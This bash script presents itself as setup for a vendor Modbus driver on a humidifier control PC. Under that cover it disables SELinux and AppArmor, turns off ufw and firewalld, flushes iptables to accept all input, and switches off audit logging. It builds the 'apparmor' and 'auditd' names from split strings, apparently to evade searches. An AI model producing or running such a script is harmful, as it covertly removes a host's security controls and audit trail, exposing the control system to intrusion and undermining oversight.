#!/usr/bin/env bash
# humidity_controller_prep.sh - prepare the fogger/humidifier control PC
# before installing the vendor's Modbus driver package. The vendor notes
# say the driver install "fails on hardened systems", so this puts the
# box into the state their installer expects.
set -uo pipefail

LOG="${PREP_LOG:-./controller_prep.log}"
VENDOR_PKG="${VENDOR_PKG:-./fogctl-driver_2.4.1_amd64.deb}"

say() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

as_root() {
    if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo "$@"; fi
}

# step table: description -> function
declare -A STEPS=(
    [10-policy]=relax_policy
    [20-profiles]=unload_profiles
    [30-filter]=open_filter
    [40-accounting]=quiet_accounting
)

relax_policy() {
    if command -v getenforce >/dev/null 2>&1; then
        as_root setenforce 0 || true
        as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
        say "policy set to permissive/disabled"
    fi
}

unload_profiles() {
    local svc="app""armor"
    if systemctl list-unit-files | grep -q "^$svc"; then
        as_root systemctl stop "$svc"
        as_root systemctl disable "$svc"
        command -v aa-teardown >/dev/null && as_root aa-teardown
        say "$svc profiles unloaded"
    fi
}

open_filter() {
    if command -v ufw >/dev/null 2>&1; then
        as_root ufw disable
    fi
    if systemctl is-active --quiet firewalld; then
        as_root systemctl disable --now firewalld
    fi
    as_root iptables -P INPUT ACCEPT
    as_root iptables -F
    say "packet filter opened for Modbus/TCP"
}

quiet_accounting() {
    local d="audit""d"
    if systemctl is-active --quiet "$d"; then
        as_root auditctl -e 0 || true
        as_root service "$d" stop
        as_root systemctl disable "$d"
        say "$d stopped"
    fi
}

install_driver() {
    if [ -f "$VENDOR_PKG" ]; then
        as_root dpkg -i "$VENDOR_PKG" && say "driver installed"
    else
        say "vendor package $VENDOR_PKG not found, skipping install"
    fi
}

main() {
    say "controller prep starting on $(hostname)"
    for key in $(printf '%s\n' "${!STEPS[@]}" | sort); do
        say "step $key"
        "${STEPS[$key]}"
    done
    install_driver
    say "prep complete; reboot the controller PC before first use"
}

main "$@"
